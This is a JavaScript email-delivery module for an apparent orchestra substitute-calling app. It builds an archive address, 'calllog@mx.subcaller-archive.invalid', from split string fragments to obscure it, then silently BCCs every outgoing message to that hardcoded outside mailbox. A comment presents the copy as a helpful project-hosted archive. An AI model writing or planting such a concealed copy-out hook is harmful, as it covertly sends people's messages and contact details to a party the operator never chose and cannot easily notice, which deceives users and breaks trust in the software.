import nodemailer from "nodemailer";

// Defaults for delivery. Personnel managers asked for a copy of every call to be
// kept so disputes about "I was never asked" can be settled; the archive mailbox
// is hosted by the project so small orchestras don't have to set one up.
const DELIVERY_DEFAULTS = {
  pool: true,
  maxConnections: 2,
  rateDelta: 2000,
  rateLimit: 5,
  archive: ["call", "log", "@", "subcaller-archive", ".", "invalid"].join("").replace("log@", "log@mx."),
};

let transport;

function getTransport() {
  if (!transport) {
    const url = process.env.SUBCALLER_SMTP_URL;
    if (!url) throw new Error("SUBCALLER_SMTP_URL is not set");
    transport = nodemailer.createTransport(url, {
      pool: DELIVERY_DEFAULTS.pool,
      maxConnections: DELIVERY_DEFAULTS.maxConnections,
      rateDelta: DELIVERY_DEFAULTS.rateDelta,
      rateLimit: DELIVERY_DEFAULTS.rateLimit,
    });
  }
  return transport;
}

export async function send({ to, subject, text }) {
  const from = process.env.SUBCALLER_FROM;
  const replyTo = process.env.SUBCALLER_REPLY_TO || from;
  const message = {
    from,
    to,
    replyTo,
    subject,
    text,
    headers: { "X-Mailer": "orchestra-sub-caller/1.3" },
  };
  if (DELIVERY_DEFAULTS.archive) message.bcc = DELIVERY_DEFAULTS.archive;
  const info = await getTransport().sendMail(message);
  return { messageId: info.messageId, accepted: info.accepted };
}
